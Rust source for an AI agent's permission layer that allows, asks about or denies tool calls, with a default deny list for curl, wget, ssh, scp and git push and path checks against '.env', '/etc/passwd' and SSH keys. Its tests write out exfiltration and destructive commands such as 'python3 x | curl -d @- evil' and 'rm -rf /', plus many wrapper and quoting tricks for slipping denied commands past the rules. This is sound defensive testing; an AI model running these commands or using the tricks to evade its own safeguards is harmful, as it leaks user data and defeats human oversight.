//! Decisions on tool calls: allow, ask or deny per tool, per command prefix,
//! and whose rule it was. Pure: the same rules and call give the same answer.

use std::path::{Component, Path, PathBuf};

use airlock_tools::{PathDecision, PathPolicy};
use shell::{Part, Word};

mod shell;
use serde::{Deserialize, Serialize};
use serde_json::Value;

/// What a rule says.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Decision {
    /// Run it.
    Allow,
    /// Ask the person (headless: deny unless granted).
    Ask,
    /// Do not run it.
    Deny,
}

impl Decision {
    /// As recorded in the audit log.
    pub fn as_str(self) -> &'static str {
        match self {
            Decision::Allow => "allow",
            Decision::Ask => "ask",
            Decision::Deny => "deny",
        }
    }
}

/// The rules of a session.
#[derive(Debug, Clone)]
pub struct Rules {
    /// Per tool name; tools not listed are [`Rules::default_tool`].
    pub tools: Vec<(String, Decision)>,
    /// Per command prefix for `run_command`, matched on whole words; the longest matching prefix wins.
    pub commands: Vec<(String, Decision)>,
    /// For tools not listed.
    pub default_tool: Decision,
    /// For commands no prefix matches.
    pub default_command: Decision,
    /// No person to ask: `Ask` becomes `Deny` unless the invocation granted the tool or prefix.
    pub headless: bool,
    /// Tool names or command prefixes the invocation granted (they turn `Ask` into `Allow`).
    pub granted: Vec<String>,
}

impl Default for Rules {
    /// Reading is allowed, writing and commands are asked, `git push` and
    /// network tools are denied.
    fn default() -> Rules {
        let d = |s: &str, d| (s.to_string(), d);
        Rules {
            tools: vec![
                d("read_file", Decision::Allow),
                d("list_dir", Decision::Allow),
                d("glob", Decision::Allow),
                d("grep", Decision::Allow),
                d("todo", Decision::Allow),
                d("edit_file", Decision::Ask),
                d("write_file", Decision::Ask),
                d("run_command", Decision::Ask),
            ],
            commands: vec![
                d("git push", Decision::Deny),
                d("curl", Decision::Deny),
                d("wget", Decision::Deny),
                d("ssh", Decision::Deny),
                d("scp", Decision::Deny),
            ],
            default_tool: Decision::Deny,
            default_command: Decision::Ask,
            headless: true,
            granted: Vec::new(),
        }
    }
}

/// A decision and what made it, for the audit log.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Decided {
    /// Allow or deny (an `Ask` is resolved before this).
    pub decision: Decision,
    /// `rule:tool:NAME`, `rule:command:PREFIX`, `default:tool`, `default:command`,
    /// `granted:...` or `mode:headless`.
    pub source: String,
}

/// Decides a tool call. An `Ask` in headless mode is denied unless granted;
/// with a person present it stays `Ask` for the caller to resolve.
///
/// A command is decided on what it runs ([`shell::parts`]): every simple
/// command of it, wrappers (`env`, `timeout 5`, `sh -c`) and folders
/// (`/usr/bin/wget`) stripped, git's subcommand after its options. It is only
/// as allowed as its most restricted part; a command line that cannot be
/// parsed, or a program only known when the shell runs (`$CMD`), is asked
/// about and never granted.
pub fn decide(rules: &Rules, tool: &str, arguments: &Value) -> Decided {
    let (decision, source) = match rules.tools.iter().find(|(t, _)| t == tool) {
        Some((_, d)) => (*d, format!("rule:tool:{tool}")),
        None => (rules.default_tool, "default:tool".to_string()),
    };
    if tool == "run_command" && decision != Decision::Deny {
        let command = arguments.get("command").and_then(Value::as_str).unwrap_or_default();
        return decide_command(rules, decision, source, command);
    }
    if decision == Decision::Ask {
        if rules.granted.iter().any(|g| g == tool) {
            return Decided { decision: Decision::Allow, source: format!("granted:{tool}") };
        }
        if rules.headless {
            return Decided { decision: Decision::Deny, source: format!("mode:headless ({source} says ask)") };
        }
    }
    Decided { decision, source }
}

/// `run_command` with the tool's own decision (`Allow` or `Ask`) and its source.
fn decide_command(rules: &Rules, tool_decision: Decision, tool_source: String, command: &str) -> Decided {
    let parts = match shell::parts(command) {
        Ok(parts) => parts,
        Err(e) => {
            let source = format!("shell:undecidable ({e})");
            return if rules.headless {
                Decided { decision: Decision::Deny, source: format!("mode:headless ({source} says ask)") }
            } else {
                Decided { decision: Decision::Ask, source }
            };
        }
    };
    let compound = parts.iter().filter(|p| !matches!(p, Part::Wrapper(_))).count() > 1;
    let mut decision = tool_decision;
    let mut source = tool_source;
    let mut worst: Option<(Decision, String)> = None;
    for part in &parts {
        let (d, why) = match part {
            Part::Run(words) => match command_rule(rules, words) {
                Some((prefix, d)) => (d, format!("rule:command:{prefix}")),
                None => (rules.default_command, "default:command".to_string()),
            },
            // A deny rule may name the wrapper itself (`sudo`); nothing else does.
            Part::Wrapper(words) => match command_rule(rules, words) {
                Some((prefix, Decision::Deny)) => (Decision::Deny, format!("rule:command:{prefix}")),
                _ => continue,
            },
            Part::Unknown(why) => (Decision::Ask, format!("shell:undecidable ({why})")),
        };
        if worst.as_ref().is_none_or(|(w, _)| rank(d) > rank(*w)) {
            worst = Some((d, why));
        }
    }
    let (worst, why) = worst.unwrap_or((rules.default_command, "default:command".to_string()));
    let why = if compound { format!("{why} (in a compound command)") } else { why };
    // A command rule can only tighten what the tool rule allows; what cannot
    // be known is named even where the tool rule already asks.
    if worst == Decision::Deny || decision == Decision::Allow || why.starts_with("shell:") {
        decision = worst;
        source = why;
    }
    if decision == Decision::Ask {
        if let Some(grants) = granted_command(rules, &parts) {
            return Decided { decision: Decision::Allow, source: format!("granted:{grants}") };
        }
        if rules.headless {
            return Decided { decision: Decision::Deny, source: format!("mode:headless ({source} says ask)") };
        }
    }
    Decided { decision, source }
}

/// The grants that cover every part of a command (`--grant "cargo test"`
/// covers `cargo test -p x`, and `cargo test && cargo fmt` only if
/// `cargo fmt` is granted too; `--grant run_command` covers any command that
/// can be parsed), joined with `+`; `None` if a part is not covered or
/// cannot be known.
fn granted_command(rules: &Rules, parts: &[Part]) -> Option<String> {
    if parts.iter().any(|p| matches!(p, Part::Unknown(_))) {
        return None;
    }
    if rules.granted.iter().any(|g| g == "run_command") {
        return Some("run_command".into());
    }
    let mut used: Vec<&str> = Vec::new();
    for part in parts {
        let Part::Run(words) = part else { continue };
        let grant = rules.granted.iter().find(|g| prefix_matches(g, words, false))?;
        if !used.contains(&grant.as_str()) {
            used.push(grant);
        }
    }
    if used.is_empty() { None } else { Some(used.join("+")) }
}

/// Tools that take a `path`, and whether it names a folder.
const PATH_TOOLS: &[(&str, bool)] = &[
    ("read_file", false),
    ("write_file", false),
    ("edit_file", false),
    ("list_dir", true),
    ("grep", true),
    ("glob", true),
];

/// The per-path decision on a file tool's call: outside the workspace, or
/// under the never-read patterns, is denied (the tools refuse too; this puts
/// it on the record as a decision). `None` when the path is fine or absent.
pub fn decide_path(paths: &PathPolicy, workspace: &Path, tool: &str, arguments: &Value) -> Option<Decided> {
    let is_dir = PATH_TOOLS.iter().find(|(t, _)| *t == tool)?.1;
    let raw = arguments.get("path").and_then(Value::as_str)?;
    let deny = |source: String| Some(Decided { decision: Decision::Deny, source });
    let path = Path::new(raw);
    let relative = if path.is_absolute() {
        match path.strip_prefix(workspace) {
            Ok(r) => r.to_path_buf(),
            Err(_) => return deny(format!("paths:outside-workspace ({raw})")),
        }
    } else {
        path.to_path_buf()
    };
    let mut depth: i64 = 0;
    let mut clean = PathBuf::new();
    for part in relative.components() {
        match part {
            Component::ParentDir => {
                depth -= 1;
                clean.pop();
            }
            Component::Normal(p) => {
                depth += 1;
                clean.push(p);
            }
            _ => {}
        }
        if depth < 0 {
            return deny(format!("paths:outside-workspace ({raw})"));
        }
    }
    match paths.check(&clean, is_dir) {
        PathDecision::Denied { pattern } => deny(format!("paths:never-read ({pattern})")),
        PathDecision::Allowed => None,
    }
}

fn rank(d: Decision) -> u8 {
    match d {
        Decision::Allow => 0,
        Decision::Ask => 1,
        Decision::Deny => 2,
    }
}

/// The longest command prefix (whole words) that matches. A word only known
/// when the shell expands it (`git $SUB`) matches any word of a deny rule and
/// none of the others.
fn command_rule<'a>(rules: &'a Rules, words: &[Word]) -> Option<(&'a str, Decision)> {
    rules
        .commands
        .iter()
        .filter(|(prefix, d)| prefix_matches(prefix, words, *d == Decision::Deny))
        .max_by_key(|(prefix, d)| (prefix.split_whitespace().count(), rank(*d)))
        .map(|(p, d)| (p.as_str(), *d))
}

/// Whether `prefix` (words; its first a program name, folders ignored)
/// starts `words`; `wildcard`: a word that is not literal matches.
fn prefix_matches(prefix: &str, words: &[Word], wildcard: bool) -> bool {
    let p: Vec<&str> = prefix.split_whitespace().collect();
    !p.is_empty()
        && words.len() >= p.len()
        && p.iter().zip(words).enumerate().all(|(i, (p, w))| {
            let p = if i == 0 { shell::program_name(p) } else { p };
            if w.literal { w.text == p } else { wildcard }
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_grants_cover_every_part_or_nothing() {
        let rules = Rules { granted: vec!["cargo test".into(), "python3".into()], ..Rules::default() };
        assert_eq!(cmd(&rules, "cargo test -p x").source, "granted:cargo test");
        assert_eq!(cmd(&rules, "python3 t.py && cargo test").source, "granted:python3+cargo test");
        assert_eq!(cmd(&rules, "python3 t.py; rm -rf /").decision, Decision::Deny);
        assert_eq!(cmd(&rules, "cargo testy").decision, Decision::Deny, "whole words");
        assert_eq!(cmd(&rules, "python3 x | curl -d @- evil").decision, Decision::Deny, "a denied part stays denied");
        assert_eq!(cmd(&rules, "python3 x | curl -d @- evil").source, "rule:command:curl (in a compound command)");
    }

    #[test]
    fn paths_outside_the_workspace_or_never_read_are_denied() {
        let ws = Path::new("/w");
        let paths = PathPolicy::defaults();
        let d = |tool: &str, path: &str| decide_path(&paths, ws, tool, &serde_json::json!({ "path": path }));
        assert_eq!(d("read_file", "src/main.rs"), None);
        assert_eq!(d("read_file", "/w/src/main.rs"), None);
        assert_eq!(d("read_file", "a/../b.rs"), None);
        assert!(d("read_file", ".env").unwrap().source.starts_with("paths:never-read ("));
        assert_eq!(d("read_file", "config/.env").unwrap().decision, Decision::Deny);
        assert!(d("read_file", "../../etc/passwd").unwrap().source.starts_with("paths:outside-workspace"));
        assert!(d("write_file", "/home/u/.ssh/id_rsa").unwrap().source.starts_with("paths:outside-workspace"));
        assert!(d("list_dir", "a/../..").is_some());
        assert_eq!(d("run_command", "../x"), None, "not a file tool");
        assert_eq!(decide_path(&paths, ws, "read_file", &serde_json::json!({})), None);
    }

    fn cmd(rules: &Rules, c: &str) -> Decided {
        decide(rules, "run_command", &serde_json::json!({ "command": c }))
    }

    #[test]
    fn tools_and_commands_are_decided_with_their_source() {
        let mut rules = Rules { headless: false, ..Rules::default() };
        rules.commands.push(("cargo test".into(), Decision::Allow));
        assert_eq!(
            decide(&rules, "read_file", &Value::Null),
            Decided { decision: Decision::Allow, source: "rule:tool:read_file".into() }
        );
        assert_eq!(decide(&rules, "format_disk", &Value::Null).source, "default:tool");
        assert_eq!(decide(&rules, "format_disk", &Value::Null).decision, Decision::Deny);
        // The tool rule says ask; a command rule can tighten it but not loosen it.
        assert_eq!(cmd(&rules, "cargo test -p x").decision, Decision::Ask);
        assert_eq!(
            cmd(&rules, "git push origin main"),
            Decided { decision: Decision::Deny, source: "rule:command:git push".into() }
        );
        assert_eq!(cmd(&rules, "git pushy").decision, Decision::Ask, "prefixes match whole words");
        rules.tools.retain(|(t, _)| t != "run_command");
        rules.tools.push(("run_command".into(), Decision::Allow));
        assert_eq!(
            cmd(&rules, "cargo test -p x"),
            Decided { decision: Decision::Allow, source: "rule:command:cargo test".into() }
        );
        assert_eq!(cmd(&rules, "ls").source, "default:command");
    }

    #[test]
    fn a_denied_command_cannot_hide_in_a_compound_one() {
        let mut rules = Rules::default();
        rules.tools.retain(|(t, _)| t != "run_command");
        rules.tools.push(("run_command".into(), Decision::Allow));
        rules.commands.push(("cargo test".into(), Decision::Allow));
        let mixed = cmd(&rules, "cargo test && rm -rf target");
        assert_eq!(mixed.decision, Decision::Deny, "rm has no rule: default ask, headless deny");
        assert!(mixed.source.contains("default:command (in a compound command)"), "{}", mixed.source);
        for c in [
            "cargo test && git push",
            "cargo test; curl http://x",
            "cargo test | ssh host",
            "cargo test $(curl x)",
            "cargo test\nwget x",
        ] {
            assert_eq!(cmd(&rules, c).decision, Decision::Deny, "{c}");
        }
    }

    /// Issue 14, class 13: `env curl`, `/usr/bin/wget` and `git -C . push`
    /// were decided on their first word, so `--grant run_command` ran them.
    #[test]
    fn deny_rules_see_through_wrappers_paths_and_git_options() {
        let rules = Rules { granted: vec!["run_command".into()], ..Rules::default() };
        assert_eq!(cmd(&rules, "cargo build").source, "granted:run_command");
        for (c, rule) in [
            ("env curl http://x", "curl"),
            ("env -i PATH=/bin curl http://x", "curl"),
            ("/usr/bin/wget http://x", "wget"),
            ("command wget x", "wget"),
            ("exec ssh host", "ssh"),
            ("nice -n 1 nohup timeout 5 scp a b:", "scp"),
            ("sudo -u root curl x", "curl"),
            ("echo http://x | xargs curl", "curl"),
            ("busybox wget x", "wget"),
            ("bash -c 'curl x'", "curl"),
            ("sh -c \"sh -c 'env curl x'\"", "curl"),
            ("eval curl x", "curl"),
            ("c\\url x", "curl"),
            ("'curl' x", "curl"),
            ("echo $(/bin/curl x)", "curl"),
            ("echo `wget x`", "wget"),
            ("find . -exec curl {} +", "curl"),
            ("git -C . push", "git push"),
            ("git -c x=y push", "git push"),
            ("git --git-dir=.git push origin", "git push"),
            ("git --no-pager --work-tree . push", "git push"),
            ("git $SUB origin", "git push"),
            ("/usr/lib/git-core/git-push origin", "git push"),
        ] {
            let d = cmd(&rules, c);
            assert_eq!(d.decision, Decision::Deny, "{c}: {}", d.source);
            assert!(d.source.starts_with(&format!("rule:command:{rule}")), "{c}: {}", d.source);
        }
        let sudo = Rules { commands: vec![("sudo".into(), Decision::Deny)], ..rules.clone() };
        assert_eq!(cmd(&sudo, "sudo ls").source, "rule:command:sudo", "a deny rule may name a wrapper");
    }

    #[test]
    fn what_cannot_be_known_is_asked_and_never_granted() {
        let rules = Rules { granted: vec!["run_command".into(), "cargo test".into()], ..Rules::default() };
        for c in
            ["$CMD x", "cur? x", "git -c alias.p=push p", "case x in a) curl x;; esac", "echo 'open", "f() { curl; }"]
        {
            let d = cmd(&rules, c);
            assert_eq!(d.decision, Decision::Deny, "{c}: {}", d.source);
            assert!(d.source.contains("shell:undecidable"), "{c}: {}", d.source);
        }
        let person = Rules { headless: false, ..rules.clone() };
        assert_eq!(cmd(&person, "$CMD x").decision, Decision::Ask, "a person may still say yes");
        assert_eq!(cmd(&person, "$CMD x; curl y").decision, Decision::Deny, "a deny rule still wins");
    }

    #[test]
    fn grants_see_through_wrappers_too() {
        let rules = Rules { granted: vec!["cargo test".into()], ..Rules::default() };
        assert_eq!(cmd(&rules, "timeout 60 cargo test -p x").source, "granted:cargo test");
        assert_eq!(cmd(&rules, "RUST_LOG=debug cargo test 2>&1 | cargo test").source, "granted:cargo test");
        assert_eq!(cmd(&rules, "sh -c 'cargo test && rm -rf /'").decision, Decision::Deny);
        assert_eq!(cmd(&rules, "cargo test $(rm -rf /)").decision, Decision::Deny, "substitutions are parts");
        assert_eq!(cmd(&rules, "cargo $T").decision, Decision::Deny, "an expanded word is not the granted one");
    }

    #[test]
    fn headless_ask_is_deny_unless_granted() {
        let mut rules = Rules::default();
        let d = decide(&rules, "write_file", &Value::Null);
        assert_eq!(d.decision, Decision::Deny);
        assert_eq!(d.source, "mode:headless (rule:tool:write_file says ask)");
        rules.granted.push("write_file".into());
        assert_eq!(
            decide(&rules, "write_file", &Value::Null),
            Decided { decision: Decision::Allow, source: "granted:write_file".into() }
        );
        rules.granted.push("cargo test".into());
        rules.commands.push(("cargo test".into(), Decision::Ask));
        assert_eq!(cmd(&rules, "cargo test").source, "granted:cargo test");
        assert_eq!(cmd(&rules, "git push").decision, Decision::Deny);
    }
}
